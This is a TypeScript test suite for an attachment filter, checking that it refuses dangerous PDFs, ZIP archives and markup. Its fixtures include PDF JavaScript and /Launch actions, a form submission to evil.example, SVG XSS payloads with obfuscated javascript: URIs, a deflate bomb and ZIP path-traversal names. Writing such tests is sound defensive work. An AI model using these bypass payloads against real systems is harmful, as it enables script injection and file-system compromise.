/**
 * Attachment filter bypasses (issue 12, item 4): PDF name escapes and FlateDecode object
 * streams, ZIP entry names that extractors rewrite, markup with script named .xml.
 */
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { deflateSync } from 'node:zlib'
import { checkAttachments } from '../../src/validation/attachments.ts'
import { scanPdf, PDF_SCAN_LIMITS } from '../../src/validation/pdf-scan.ts'
import { AppError } from '../../src/core/errors.ts'
import { makeZip } from './zip-fixture.ts'

const b64 = (b: Buffer | string) => Buffer.from(b).toString('base64')
const one = (filename: string, content: Buffer | string) => checkAttachments([{ filename, content: b64(content) }])[0]
function refused(fn: () => unknown, reason: string) {
  assert.throws(fn, (e: unknown) => {
    assert.ok(e instanceof AppError, String(e))
    assert.equal(e.code, 'invalid_attachment')
    assert.equal((e as any).details.reason, reason)
    return true
  })
}

const pdf = (...objects: (string | Buffer)[]) => Buffer.concat([Buffer.from('%PDF-1.7\n'), ...objects.map((o) => Buffer.concat([Buffer.from(o), Buffer.from('\n')])), Buffer.from('%%EOF\n')])
/** An object stream holding `body`, compressed with FlateDecode; `dict` adds or overrides entries. */
function objStm(body: string, dict = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data = deflateSync(body)): Buffer {
  return Buffer.concat([Buffer.from(`5 0 obj\n<< ${dict} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream\nendobj')])
}
const CATALOG = '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj'

test('PDF actions are found whatever name escapes spell them', () => {
  for (const action of ['/S /J#61vaScript /JS (app.alert(1))', '/S /L#61unch /F (cmd.exe)', '/#4A#53 (x)', '/#4a#53 (x)', '/S /JavaScript', '/AA << /O 3 0 R >>',
    '/EmbeddedFiles 4 0 R', '/Type /EmbeddedFile', '/S /SubmitForm /F (https://evil.example)', '/S /ImportData', '/RichMedia 3 0 R', '/XFA 6 0 R', '/S /GoToE']) {
    refused(() => one('doc.pdf', pdf(CATALOG, `3 0 obj << ${action} >> endobj`)), 'active_content')
  }
  refused(() => one('doc.pdf', pdf('1 0 obj << /Type /Catalog /Open#41ction 3 0 R >> endobj')), 'active_content')
  refused(() => one('doc.pdf', pdf('1 0 obj << /Type /Catalog /OpenAction << /S /GoTo >> >> endobj')), 'active_content')
})

test('benign PDFs pass: destinations, and look-alikes in strings, comments and stream data', () => {
  assert.equal(one('a.pdf', pdf('1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj')).contentType, 'application/pdf')
  one('a.pdf', pdf(CATALOG, '3 0 obj << /Title (about /JavaScript and \\) /Launch) >> endobj'))
  one('a.pdf', pdf(CATALOG, '% a comment about /JS and /Launch', '3 0 obj << /Producer <2F4A53> >> endobj'))
  const binary = Buffer.concat([Buffer.from('/JS /Launch '), Buffer.alloc(64, 0x2f)])
  one('a.pdf', pdf(CATALOG, Buffer.concat([Buffer.from(`4 0 obj << /Length ${binary.length} >>\nstream\n`), binary, Buffer.from('\nendstream\nendobj')])))
  one('a.pdf', pdf(CATALOG, objStm('3 0 << /Type /Page /Parent 2 0 R >>')))
})

test('actions inside FlateDecode object streams are found, escaped names included', () => {
  refused(() => one('doc.pdf', pdf(CATALOG, objStm('3 0 << /S /JavaScript /JS (app.alert(1)) >>'))), 'active_content')
  refused(() => one('doc.pdf', pdf(CATALOG, objStm('3 0 << /S /L#61unch /F (calc.exe) >>'))), 'active_content')
  refused(() => one('doc.pdf', pdf(CATALOG, objStm('3 0 << /OpenAction 4 0 R >>', '/Type /Obj#53tm /N 1 /First 4 /Filter /Fl#61teDecode'))), 'active_content')
  refused(() => one('doc.pdf', pdf(CATALOG, objStm('3 0 << /AA << /O 4 0 R >> >>', '/Type /ObjStm /N 1 /First 4 /Filter /Fl'))), 'active_content')
})

test('object streams that cannot be scanned are refused, not trusted', () => {
  const hidden = '3 0 << /S /JavaScript >>'
  refused(() => one('doc.pdf', pdf(CATALOG, objStm(hidden, '/Type /ObjStm /Filter /ASCIIHexDecode', Buffer.from(Buffer.from(hidden).toString('hex'))))), 'unscannable_content')
  refused(() => one('doc.pdf', pdf(CATALOG, objStm(hidden, '/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]'))), 'unscannable_content')
  refused(() => one('doc.pdf', pdf(CATALOG, objStm(hidden, '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>'))), 'unscannable_content')
  refused(() => one('doc.pdf', pdf(CATALOG, objStm(hidden, '/Type /ObjStm /Filter /FlateDecode', Buffer.from('not deflate data')))), 'unscannable_content')
  // A deflate bomb: 60 MB of zeros in ~60 KB; the budget (10 x the file, at most 50 MB) stops it.
  refused(() => one('doc.pdf', pdf(CATALOG, objStm('', undefined, deflateSync(Buffer.alloc(60 * 1024 * 1024))))), 'unscannable_content')
  const three = pdf(CATALOG, objStm('3 0 << >>'), objStm('3 0 << >>'), objStm('3 0 << >>'))
  assert.equal(scanPdf(three, { ...PDF_SCAN_LIMITS, maxObjectStreams: 3 }), null)
  assert.equal(scanPdf(three, { ...PDF_SCAN_LIMITS, maxObjectStreams: 2 }), 'unscannable_content')
})

test('objects hidden after a short /Length are scanned', () => {
  const data = Buffer.from('q Q\nendobj\n9 0 obj << /S /JavaScript /JS (x) >> endobj\n')
  const stream = Buffer.concat([Buffer.from('4 0 obj << /Length 3 >>\nstream\n'), data, Buffer.from('endstream\nendobj')])
  refused(() => one('doc.pdf', pdf(CATALOG, stream)), 'active_content')
  // An indirect /Length is not a number of bytes: the data is skipped as data.
  const indirect = Buffer.concat([Buffer.from('4 0 obj << /Length 7 0 R >>\nstream\n'), Buffer.from('/JS /Launch'), Buffer.from('\nendstream\nendobj')])
  one('doc.pdf', pdf(CATALOG, indirect))
})

test('ZIP entry names are normalised before the extension check', () => {
  for (const name of ['payload.exe.', 'payload.exe ', 'payload.exe. . ', 'x.exe::$DATA', 'x.exe:stream', 'x.txt:evil.exe', 'x.exe\0.txt',
    'payload\u2024exe', 'payload\uff0eexe', 'payload.\uff45\uff58\uff45', 'payload\u3002exe', 'x.e\u200bxe', 'docs\\run.exe', 'INNER.ZIP.', 'inner.zip::$DATA', 'a.JS ']) {
    refused(() => one('photos.zip', makeZip({ 'a.jpg': 'x', [name]: 'MZ' })), 'dangerous_archive_entry')
  }
  one('photos.zip', makeZip({ 'a.jpg': 'x', 'notes.txt': 'y', 'sub/dir/b.csv': 'z', 'Fiche résumé.pdf': 'p' }))
})

test('ZIP entries that write outside the folder are refused', () => {
  for (const name of ['../evil.txt', 'a/../../evil.txt', '/etc/cron.d/x.txt', '\\windows\\x.txt', 'C:\\x.txt', 'c:x.txt', 'a\\..\\..\\x.txt', '\u2025/x.txt', '.. /x.txt', 'a/.../x.txt']) {
    refused(() => one('photos.zip', makeZip({ 'a.jpg': 'x', [name]: 'x' })), 'unsafe_archive_path')
  }
})

test('the Info-ZIP Unicode Path name (what 7-Zip extracts) is checked too', () => {
  refused(() => one('photos.zip', makeZip({ 'a.txt': 'MZ' }, { unicodePaths: { 'a.txt': 'a.exe' } })), 'dangerous_archive_entry')
  one('photos.zip', makeZip({ 'a.txt': 'x' }, { unicodePaths: { 'a.txt': 'a.txt' } }))
})

test('the same tricks as direct attachment filenames are refused', () => {
  refused(() => one('payload.exe.', 'x'), 'bad_edges')
  refused(() => one('payload.exe ', 'x'), 'bad_edges')
  refused(() => one('x.exe::$DATA', 'x'), 'forbidden_characters')
  refused(() => one('x.exe\0.txt', 'x'), 'control_characters')
  refused(() => one('invoice.pdf\u2024exe', 'x'), 'dangerous_extension')
  refused(() => one('invoice.txt.\uff45\uff58\uff45', 'x'), 'dangerous_extension')
  refused(() => one('report\uff0etxt', 'x'), 'lookalike_characters')
  refused(() => one('report.\uff54\uff58\uff54', 'x'), 'lookalike_characters')
})

test('active markup types are refused by name', () => {
  for (const ext of ['svg', 'svgz', 'xhtml', 'xht', 'htm', 'html', 'shtml', 'mht', 'mhtml', 'xsl', 'xslt']) refused(() => one(`a.${ext}`, 'x'), 'dangerous_extension')
})

test('markup with script is refused whatever its name says; plain XML passes', () => {
  const svg = (inner: string) => `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`
  for (const content of [
    svg('<script>alert(1)</script>'), svg('<svg:script>alert(1)</svg:script>'), svg('<SCRIPT\n>alert(1)</SCRIPT>'),
    svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x"/></body></foreignObject>'),
    svg('<rect onload="alert(1)"/>'), svg('<rect\nONCLICK = "alert(1)"/>'), svg('<rect/onmouseover="alert(1)"/>'),
    svg('<a href="jav&#x61;script:alert(1)"><text>x</text></a>'), svg('<a xlink:href="java\tscript:alert(1)">x</a>'),
    svg('<set attributeName="href" to="&#106;&#97;vascript:alert(1)"/>'), svg('<a href="vbscript:msgbox(1)">x</a>'),
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><doc/>',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY s "&#60;script&#62;alert(1)&#60;/script&#62;">]><d>&s;</d>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><body><iframe src="https://evil.example"/></body></html>',
  ]) {
    // An SVG (after an XML declaration) or an <html> root is caught first by the magic-byte
    // sniff, as 'script'; everything else by the markup scan, as 'active_content'.
    const sniffed = content.startsWith('<?xml version="1.0"?>\n<svg') || content.startsWith('<html') ? 'script' : 'active_content'
    refused(() => one('data.xml', content), sniffed)
    // Whatever the extension: a .txt that is markup is scanned the same way (a UTF-8 BOM
    // hides the root from the magic-byte sniff, not from the markup scan).
    refused(() => one('notes.txt', `\ufeff  ${content}`), 'active_content')
    refused(() => one('notes.txt', `<!-- x -->${content}`), 'active_content')
  }
  assert.equal(one('invoice.xml', '<?xml version="1.0"?><invoice id="7"><total currency="EUR">12.50</total><note>Paid online: thanks!</note></invoice>').contentType, 'application/xml')
  // Text that is not markup is not read as markup.
  one('notes.txt', 'Set onload= in the template; javascript: links are stripped by the sanitizer.')
})
